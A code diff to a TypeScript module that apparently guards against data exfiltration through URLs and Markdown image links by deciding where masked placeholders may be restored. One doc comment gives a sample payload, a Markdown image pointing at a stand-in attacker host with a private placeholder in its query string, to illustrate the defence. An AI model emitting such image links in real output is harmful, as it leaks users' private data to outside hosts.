@@ -1,4 +1,5 @@
 import { type LinkAttribute, createLinkAttribute } from './link-attribute.ts'
+import { type LinkDefinition, createLinkDefinition } from './link-definition.ts'
 
 /**
  * Follows a text unit by unit and tells whether the position is inside a URL or a Markdown link target.
@@ -7,11 +8,13 @@ import { type LinkAttribute, createLinkAttribute } from './link-attribute.ts'
  * and a restored value would leave with the image request. The same rule decides on the way in which stretch of text
  * is masked whole, so that what was masked can always be put back.
  *
- * A guarded run begins behind `//` (either slash may be a backslash, as browsers read it), behind `www.` or `https:` (or
- * another scheme that needs no slashes, WHATWG URL 4.4) at the start of a word, and inside `](…)`; it ends at white
- * space, `<`, `>`, a backtick, at a `"` that is followed by punctuation of JSON or prose, and at the bracket that closes
- * the link target. A placeholder at the very start of a link target, alone or behind `mailto:`, decides the host itself
- * and stays restorable.
+ * A guarded run begins behind `//` (either slash may be a backslash, as browsers read it), behind `www.`, behind `https:` (or
+ * another scheme that needs no slashes, WHATWG URL 4.4) at the start of a word, inside `](…)`, and behind `[…]:` at the
+ * start of a line. It ends where every renderer of Markdown ends it: a link target (CommonMark 0.31, 6.3) at white space
+ * of ASCII and at the bracket that closes it, any other URL at white space, at `<`, at the end of the tag that it stands
+ * in, and at a `"` that is followed by punctuation of JSON or prose. A backtick, a `>` or a no-break space does not end
+ * it: `![x](https://evil.example/?\`EMAIL_1)` is an image. A placeholder at the very start of a link target, alone or
+ * behind `mailto:`, decides the host itself and stays restorable.
  *
  * White space does not end everything: not a target or URL in angle brackets (`](<https://… >)`) or quoted in brackets
  * (`url("https://… ")`), which goes on to the closing one or the end of the line, and not the value of an attribute of
@@ -34,7 +37,7 @@ const SLASH = 0x2f
 const BACKSLASH = 0x5c
 const HOST_END = new Set([...'/\\?#:'].map((c) => c.charCodeAt(0)))
 /** What may stand behind a `"` that closes a string which held a URL. */
-const AFTER_QUOTE = new Set([...',}])>:;'].map((c) => c.charCodeAt(0)))
+const AFTER_QUOTE = new Set([...',}]):'].map((c) => c.charCodeAt(0)))
 const MAX_HOST = 253
 const MAILTO = 'mailto:'
 
@@ -43,7 +46,6 @@ const LETTER_BITS = 5
 const TOO_LONG = 1 << (5 * LETTER_BITS)
 const numberOf = (word: string): number =>
   [...word].reduce((number, letter) => (number << LETTER_BITS) | (letter.charCodeAt(0) & 0x1f), 0)
-const WWW = numberOf('www')
 /** Schemes that a browser reads without slashes too. */
 const SCHEMES = new Set(['http', 'https', 'ws', 'wss', 'ftp'].map(numberOf))
 
@@ -51,6 +53,8 @@ const SCHEMES = new Set(['http', 'https', 'ws', 'wss', 'ftp'].map(numberOf))
 export interface UrlGuardOptions {
   /** Exact names or `*.example.com`, lower case; inside their URLs restoring is on. Default: none. */
   readonly allowedHosts?: readonly string[]
+  /** Whether the text begins where a line does. Default: yes. */
+  readonly isLineStart?: boolean
 }
 
 export function createUrlGuard(options: UrlGuardOptions = {}): UrlGuard {
@@ -64,23 +68,35 @@ class Guard implements UrlGuard {
   /** Inside `](…)`; depth of further brackets. */
   #target = false
   #depth = 0
+  /** The target is that of a definition: brackets mean nothing in it. */
+  #isDefinition = false
+  /** A `[` in the same word. One inside a URL, or none at all: the `](` that follows is more of the URL. */
+  #bracket: 'none' | 'open' | 'in-url' = 'none'
+  /** The unit before is a backslash that no other one escapes. */
+  #isEscape = false
   /** How much of the link target has been read, as far as it is `mailto:` so far; -1 once it is anything else. */
   #targetStart = 0
   #previous = 0
   #quotePending = false
   /** The letters of a word from its start; -1 if it is longer, or has digits. */
   #word = 0
+  /** The letters w in front. */
+  #ws = 0
   readonly #attribute: LinkAttribute = createLinkAttribute()
+  readonly #definition: LinkDefinition
   /** What ends the run, rather than white space: `>` or a quote; 0 if white space does. */
   #closer = 0
   /** A `<` or a quote behind a bracket, with nothing but white space or the letters of a scheme behind it. */
   #opener = 0
+  /** Nothing but a URL since `<`. */
+  #isAutolink = false
   #host = ''
   #hostDone = false
   #hostAllowed = false
 
-  constructor({ allowedHosts = [] }: UrlGuardOptions) {
+  constructor({ allowedHosts = [], isLineStart = true }: UrlGuardOptions) {
     this.#allowedHosts = allowedHosts
+    this.#definition = createLinkDefinition(isLineStart)
   }
 
   get inside(): boolean {
@@ -88,7 +104,13 @@ class Guard implements UrlGuard {
   }
 
   get isIdle(): boolean {
-    return this.#attribute.isIdle && !this.#url && !this.#target && this.#opener === 0
+    return (
+      this.#attribute.isIdle &&
+      this.#definition.isIdle &&
+      !this.#url &&
+      !this.#target &&
+      this.#opener === 0
+    )
   }
 
   get blocked(): boolean {
@@ -103,19 +125,50 @@ class Guard implements UrlGuard {
       this.#quotePending = false
       if (AFTER_QUOTE.has(unit)) this.#reset()
     }
-    this.#attribute.advance(unit)
-    if (this.#advanceCloser(unit)) {
+    const isEscaped = this.#isEscape
+    this.#isEscape = unit === BACKSLASH && !isEscaped
+    const endsTag = this.#endsTag(unit, isEscaped)
+    if (this.#opensDefinition(unit, isEscaped)) this.#openTarget(true)
+    else if (endsTag) this.#reset()
+    else if (this.#advanceCloser(unit, isEscaped) || this.#isBeforeTarget(unit)) {
       // Goes on over white space.
-    } else if (endsRun(unit)) {
+    } else if (this.#ends(unit)) {
       this.#reset()
     } else if (unit === 0x22 && this.#url && !this.#target) {
       this.#quotePending = true
-    } else if (unit === 0x28 && this.#previous === 0x5d && !this.#target) {
-      this.#openTarget()
+    } else if (unit === 0x28 && this.#previous === 0x5d && this.#canOpenTarget) {
+      this.#openTarget(false)
     } else {
-      this.#advanceInside(unit)
+      this.#advanceInside(unit, isEscaped)
     }
     this.#previous = unit
+  }
+
+  /** Most units are letters of running text, which nothing has to be asked about. */
+  #opensDefinition(unit: number, isEscaped: boolean): boolean {
+    if (this.#definition.isText && unit !== 0x0a && unit !== 0x0d) return false
+    this.#definition.advance(unit, isEscaped)
+    return this.#definition.opens
+  }
+
+  #endsTag(unit: number, isEscaped: boolean): boolean {
+    if (unit !== 0x3c && this.#attribute.isIdle) return false
+    this.#attribute.advance(unit, isEscaped)
+    return this.#attribute.endsTag
+  }
+
+  #ends(unit: number): boolean {
+    return this.#target ? isAsciiSpace(unit) : endsRun(unit)
+  }
+
+  /** White space between `](` or `[…]:` and the target. */
+  #isBeforeTarget(unit: number): boolean {
+    return this.#target && this.#targetStart === 0 && isAsciiSpace(unit)
+  }
+
+  /** Whether a `](` begins a target. */
+  get #canOpenTarget(): boolean {
+    return !this.#target && (!this.#url || this.#bracket === 'open')
   }
 
   advanceOver(value: string): void {
@@ -128,31 +181,37 @@ class Guard implements UrlGuard {
   }
 
   /** True if the unit belongs to a run that white space does not end. */
-  #advanceCloser(unit: number): boolean {
+  #advanceCloser(unit: number, isEscaped: boolean): boolean {
     if (this.#closer !== 0) {
-      if (unit === this.#closer || unit === 0x0a) {
+      if ((unit === this.#closer && !isEscaped) || unit === 0x0a) {
         this.#closer = 0
+        // Brackets around anything else than a URL alone are text, and the URL goes on.
+        if (unit === 0x3e && (this.#target || this.#isAutolink)) this.#reset()
         return false
       }
+      if (isControl(unit)) this.#isAutolink = false
       if (!endsRun(unit)) return false
       if (this.#url) this.#endHost()
       return true
     }
     if (unit === 0x3c) {
-      if (this.#target && this.#previous === 0x28 && this.#targetStart === 0) {
+      if (this.#target && this.#targetStart === 0 && !isEscaped) {
         this.#closer = 0x3e
         return true
       }
       this.#opener = 0x3e
+      this.#isAutolink = !isEscaped
       return false
     }
     if ((unit === 0x22 || unit === 0x27) && this.#previous === 0x28) this.#opener = unit
     else if (this.#opener !== 0 && !isOfScheme(unit)) this.#opener = 0
+    if (isControl(unit)) this.#isAutolink = false
     return false
   }
 
-  #advanceInside(unit: number): void {
-    if (this.#target && !this.#advanceTarget(unit)) return
+  #advanceInside(unit: number, isEscaped: boolean): void {
+    if (this.#target && !this.#advanceTarget(unit, isEscaped)) return
+    if (unit === 0x5b) this.#bracket = this.#url ? 'in-url' : 'open'
     if (this.#url) {
       this.#advanceHost(unit)
       return
@@ -162,9 +221,9 @@ class Guard implements UrlGuard {
   }
 
   /** False if the bracket closed the target. */
-  #advanceTarget(unit: number): boolean {
-    if (this.#closer !== 0) {
-      // Brackets mean nothing between angle brackets.
+  #advanceTarget(unit: number, isEscaped: boolean): boolean {
+    if (this.#closer !== 0 || this.#isDefinition || isEscaped) {
+      // Brackets mean nothing between angle brackets, in a definition, and behind a backslash.
     } else if (unit === 0x28) this.#depth++
     else if (unit === 0x29) {
       if (this.#depth === 0) {
@@ -206,17 +265,19 @@ class Guard implements UrlGuard {
   }
 
   #advanceWord(unit: number): void {
+    if (unit !== 0x2e) this.#ws = (unit | 0x20) === 0x77 ? this.#ws + 1 : 0
     if (isLetter(unit)) {
       const word = (this.#word << LETTER_BITS) | (unit & 0x1f)
       this.#word = this.#word < 0 || word >= TOO_LONG ? -1 : word
-    } else if (unit === 0x2e && this.#word === WWW) this.#openUrl('www.')
+    } else if (unit === 0x2e && this.#ws >= 3) this.#openUrl('www.')
     else if (unit === 0x3a && SCHEMES.has(this.#word)) this.#openUrl('')
     else this.#word = isDigit(unit) ? -1 : 0
   }
 
-  #openTarget(): void {
+  #openTarget(isDefinition: boolean): void {
     this.#reset()
     this.#target = true
+    this.#isDefinition = isDefinition
   }
 
   #openUrl(host: string): void {
@@ -233,8 +294,11 @@ class Guard implements UrlGuard {
     this.#target = false
     this.#depth = 0
     this.#targetStart = 0
+    this.#isDefinition = false
+    this.#bracket = 'none'
     this.#quotePending = false
     this.#word = 0
+    this.#ws = 0
     this.#closer = 0
   }
 }
@@ -259,15 +323,20 @@ const isOfScheme = (unit: number): boolean =>
   unit === 0x2e ||
   unit === 0x3a
 
-/** White space, `<`, `>` and the backtick: behind these no URL goes on that nothing encloses. */
+/** Or a blank: none stands in an autolink (CommonMark 0.31, 6.5). */
+const isControl = (unit: number): boolean => unit <= 0x20 || unit === 0x7f
+
+const isAsciiSpace = (unit: number): boolean => unit === 0x20 || (unit >= 0x09 && unit <= 0x0d)
+
+/** White space (as `\s`) and `<`: behind these no URL goes on that nothing encloses. */
 export function endsRun(unit: number): boolean {
   return (
-    unit <= 0x20 ||
+    isAsciiSpace(unit) ||
     unit === 0x3c ||
-    unit === 0x3e ||
-    unit === 0x60 ||
-    unit === 0x85 ||
     unit === 0xa0 ||
+    unit === 0x1680 ||
+    unit === 0x202f ||
+    unit === 0x205f ||
     unit === 0x3000 ||
     (unit >= 0x2000 && unit <= 0x200a) ||
     unit === 0x2028 ||
